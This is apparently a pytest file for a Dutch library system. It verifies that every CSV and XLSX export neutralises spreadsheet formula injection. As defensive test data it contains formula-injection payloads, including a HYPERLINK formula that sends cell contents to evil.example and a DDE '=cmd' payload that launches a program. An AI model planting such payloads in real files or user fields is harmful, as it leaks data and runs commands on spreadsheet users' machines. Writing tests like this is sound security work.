"""Every CSV and XLSX export, web and command line, goes through clb.exports: text that a
spreadsheet would run as a formula comes out as text, and CSV opens in Dutch Excel.

The walk below names organisations, branches, municipalities and a scenario like formulas, calls
every export entry point, and checks every cell. It also records which modules wrote through the
helper and compares that with the modules that call it in the source, so an export added later
without a place in this walk fails here."""

import csv
import io
import re
import sys
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client
from openpyxl import Workbook, load_workbook

import clb
from clb import exports
from clb.accounts.models import User
from clb.catalogue.models import BibRecord
from clb.costmodel.models import Scenario
from clb.members.services import take_member_snapshot
from clb.network.models import Branch, Municipality, Organisation
from clb.services import services as registration
from tests.cockpit.helpers import record_many
from tests.costmodel.conftest import towns  # noqa: F401  (a fixture)
from tests.factories import T0, make_item, make_patron, make_record

SRC = Path(clb.__file__).parent
ORG_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
BRANCH_NAME = "+SUM(1,2)"
PLACE_NAME = "-2+3 Dorp"
SCENARIO_NAME = "@Scenario"
TAB_NAME = "\t=1+1"
TITLE = "-1+1 Titel"  # a catalogue title, as a cataloguer typed it
# No export lists branch names or a scenario's own name; they are renamed all the same.
POISONS = (ORG_NAME, PLACE_NAME, TAB_NAME, "@SOM(1;2)", TITLE)
WRITERS = re.compile(r"\bexports\.(write_csv|csv_text|xlsx_append|xlsx_cell)\(")


# --- the helper itself --------------------------------------------------------------------------


def test_text_that_starts_like_a_formula_is_neutralised_numbers_are_not():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert exports.csv_cell(start + "1+1") == "'" + start + "1+1"
    assert exports.csv_cell("Bibliotheek =Stad") == "Bibliotheek =Stad"
    assert exports.csv_cell(-5) == "-5"
    assert exports.csv_cell(Decimal("-2.50")) == "-2,50"
    assert exports.csv_cell(Decimal("-2.50"), exports.PLAIN) == "-2.50"
    assert exports.csv_cell(None) == "" and exports.csv_cell(date(2026, 3, 2)) == "2026-03-02"


def test_dutch_csv_opens_in_dutch_excel_and_the_plain_style_is_an_option():
    rows = [["naam", "aandeel"], ["Súdwest-Fryslân", 12.5], [ORG_NAME, Decimal("0.25")]]
    dutch = exports.csv_text(rows)
    assert dutch.startswith("\ufeff")  # Excel reads UTF-8 only with the mark: â stays â
    assert dutch[1:].splitlines()[1] == "Súdwest-Fryslân;12,5"
    parsed = list(csv.reader(io.StringIO(dutch[1:]), delimiter=";"))
    assert parsed[2] == ["'" + ORG_NAME, "0,25"]
    plain = exports.csv_text(rows, exports.PLAIN)
    assert plain.splitlines()[1] == "Súdwest-Fryslân,12.5"
    assert exports.csv_style("komma") is exports.PLAIN
    assert exports.csv_style("") is exports.DUTCH and exports.csv_style("x") is exports.DUTCH


def test_xlsx_text_is_text_never_a_formula():
    book = Workbook()
    exports.xlsx_append(book.active, [ORG_NAME, 1.5, Decimal("2.25"), "-3"])
    exports.xlsx_cell(book.active, 2, 1, BRANCH_NAME)
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes(book))).active
    assert [c.value for c in sheet[1]] == [ORG_NAME, 1.5, 2.25, "-3"]
    assert [c.data_type for c in sheet[1]] == ["s", "n", "n", "s"]
    assert sheet["A2"].value == BRANCH_NAME and sheet["A2"].data_type == "s"


def test_no_module_writes_csv_or_xlsx_cells_past_the_helper():
    for path in SRC.rglob("*.py"):
        if path.name == "exports.py":
            continue
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"csv\.(writer|DictWriter)\(", text), path
        if "Workbook" in text:
            assert "exports.xlsx_" in text, path
            # Cells are appended or set through exports.xlsx_append / xlsx_cell only.
            assert not re.search(r"(sheet|cover|charts)\.(append\((?!\[\]\))|cell\()", text), path


# --- the walk -----------------------------------------------------------------------------------


@pytest.fixture
def poisoned(net, towns):  # noqa: F811
    """Names people can type, each starting like a formula, and enough activity to fill the
    cockpit's tables."""
    net.org_a.name = ORG_NAME
    net.org_a.save()
    net.a1.name = BRANCH_NAME
    net.a1.save()
    net.gm_b.name = PLACE_NAME
    net.gm_b.save()
    Organisation.objects.filter(code="bibliotheek-kleindorp").update(name=ORG_NAME)
    Branch.objects.filter(municipality__code="GM9001").update(name=BRANCH_NAME)
    Municipality.objects.filter(code="GM9002").update(name=TAB_NAME)
    patron = make_patron(net.org_a, at=T0)
    record_many(25, "checkout", at=T0, organisation=net.org_a, branch=net.a1,
                item=make_item(net.a1), patron=patron)  # fmt: skip
    for _ in range(12):
        registration.register_quick_contact("12", branch=net.a1, at=T0)
    take_member_snapshot(on=date(2026, 3, 1))
    return net, patron


@pytest.fixture
def writers(monkeypatch):
    """Which modules wrote through the helper during the test."""
    seen = set()

    def recording(original):
        def wrapper(*args, **kwargs):
            frame = sys._getframe(1)
            while frame.f_code.co_filename.endswith("exports.py"):
                frame = frame.f_back
            seen.add(Path(frame.f_code.co_filename).resolve())
            return original(*args, **kwargs)

        return wrapper

    for name in ("write_csv", "csv_text", "xlsx_append", "xlsx_cell"):
        monkeypatch.setattr(exports, name, recording(getattr(exports, name)))
    return seen


def cells_of(body: bytes, kind: str) -> list:
    if kind == "xlsx":
        book = load_workbook(io.BytesIO(body))
        return [c for sheet in book for row in sheet.iter_rows() for c in row if c.value]
    text = body.decode("utf-8")
    assert text.startswith("\ufeff"), "Dutch CSV (the default) starts with the byte-order mark"
    return [v for row in csv.reader(io.StringIO(text[1:]), delimiter=";") for v in row]


def assert_safe(body: bytes, kind: str, where: str) -> str:
    """No cell that a spreadsheet would run; returns all text for the caller's checks."""
    cells = cells_of(body, kind)
    assert cells, where
    if kind == "xlsx":
        formulas = [c.coordinate for c in cells if c.data_type == "f"]
        assert not formulas, (where, formulas)
        return "\n".join(str(c.value) for c in cells)
    for value in cells:
        if value.startswith(exports.FORMULA_STARTS):
            assert re.fullmatch(r"-\d+(,\d+)?", value), (where, value)  # a negative number
    return "\n".join(cells)


def test_every_export_entry_point_neutralises_formulas(poisoned, writers, tmp_path):
    net, patron = poisoned
    kb = User.objects.create_user("kb", role=User.Role.NATIONAL_ADMIN, is_superuser=True)
    web = Client()
    web.force_login(kb)
    desk = Client()
    desk.force_login(
        User.objects.create_user("balie", role="org_admin", organisation=net.org_a, branch=net.a1)
    )
    period = {"periode": "2026-H1"}
    outputs = {}

    def get(client, url, kind, **params):
        response = client.get(url, params)
        assert response.status_code == 200, (url, params, response.status_code)
        outputs[f"{url} {params}"] = (response.content, kind)

    dashboard = web.get("/cockpit/", {"regio": "PV26", **period}).content.decode()
    tables = sorted(set(re.findall(r"/cockpit/tabel/([a-z0-9-]+)\.csv", dashboard)))
    assert len(tables) >= 3, tables
    for name in tables:
        get(web, f"/cockpit/tabel/{name}.csv", "csv", regio="PV26", **period)
    get(web, "/cockpit/tabel/indicatoren.csv", "csv", regio="ORG:bibliotheek-utrecht", **period)
    for fmt in ("csv", "xlsx"):
        get(web, "/cockpit/rapport/", fmt, regio="PV26", formaat=fmt, **period)
    get(web, "/cockpit/wsob/", "csv", organisatie=net.org_a.code, jaar="2026")
    patron.last_name = "=cmd|' /C calc'!A0"  # the audit log shows what staff typed, too
    patron.save()
    desk.post("/balie/", {"card_number": patron.card_number})
    desk.get("/balie/zoeken/", {"q": "@SOM(1;2)"})
    get(desk, "/balie/logboek/", "csv", formaat="csv")
    get(desk, "/registratie/wsob/", "csv", jaar="2026")
    get(web, "/cockpit/bereikbaarheid/", "csv", formaat="csv")
    builder = {"gemeente": "GM9001", "niveau_vestigingen": "minimaal"}
    for fmt in ("csv", "xlsx"):
        get(web, "/cockpit/kostenmodel/", fmt, download=fmt, **builder)
    saved = web.post("/cockpit/kostenmodel/opslaan/", {**builder, "naam": SCENARIO_NAME})
    assert saved.status_code == 302
    scenario = Scenario.objects.get(name=SCENARIO_NAME)
    for fmt in ("csv", "xlsx"):
        get(web, f"/cockpit/kostenmodel/scenario/{scenario.pk}/download.{fmt}", fmt)

    def command(name, kind, *args):
        out = tmp_path / f"{name}.{kind}"
        call_command(name, *args, "--output", str(out), stdout=io.StringIO(),
                     stderr=io.StringIO())  # fmt: skip
        outputs[f"clb {name} {kind}"] = (out.read_bytes(), kind)

    for fmt in ("csv", "xlsx"):
        command("report", fmt, "--period", "2026-H1", "--region", "PV26", "--format", fmt)
        command("costmodel", fmt, "--municipality", "GM9001", "--format", fmt)
    command("wsob_export", "csv", "--organisation", net.org_a.code, "--year", "2026")
    command("accessibility", "csv")
    Organisation.objects.filter(pk=net.org_a.pk).update(isil="NL-0344UB")
    make_item(net.a1, make_record(TITLE), barcode="5000000000099")
    feed = tmp_path / "feed"
    call_command("export_holdings", "--format", "csv", "--output", str(feed),
                 stdout=io.StringIO())  # fmt: skip
    (holdings,) = feed.glob("NL-0344UB_*.csv")
    outputs["clb export_holdings csv"] = (holdings.read_bytes(), "csv")
    records = BibRecord.objects.count()
    marc = tmp_path / "=1+1.mrc"  # a file name is text people choose too
    marc.write_bytes(b"00026nam  2200025   4500\x1e\x1d")  # a record that fails, with a reason
    report = tmp_path / "import.csv"
    call_command("import_marc", str(marc), "--organisation", net.org_a.code, "--report",
                 str(report), stdout=io.StringIO(), stderr=io.StringIO())  # fmt: skip
    outputs["clb import_marc --report"] = (report.read_bytes(), "csv")

    texts = {where: assert_safe(body, kind, where) for where, (body, kind) in outputs.items()}
    everything = "\n".join(texts.values())
    for poison in POISONS:
        assert poison in everything, poison  # the names did reach the exports, as text
    assert "=1+1.mrc" in texts["clb import_marc --report"]
    assert BibRecord.objects.count() == records  # the bad MARC record was refused, with a reason

    # Every module that writes through the helper was reached by this walk.
    calling = {
        path.resolve()
        for path in SRC.rglob("*.py")
        if WRITERS.search(path.read_text(encoding="utf-8"))
    }
    assert calling, "the source scan found no export"
    assert calling <= writers, sorted(str(p.relative_to(SRC)) for p in calling - writers)


def test_the_plain_style_on_request(poisoned):
    web = Client()
    web.force_login(User.objects.create_user("kb", role="national_admin", is_superuser=True))
    response = web.get(
        "/cockpit/tabel/indicatoren.csv", {"regio": "PV26", "periode": "2026-H1", "csv": "komma"}
    )
    text = response.content.decode()
    assert not text.startswith("\ufeff") and text.splitlines()[0].count(",") >= 3
    assert response["Content-Disposition"] == (
        'attachment; filename="clb-indicatoren-PV26-2026-H1.csv"'
    )
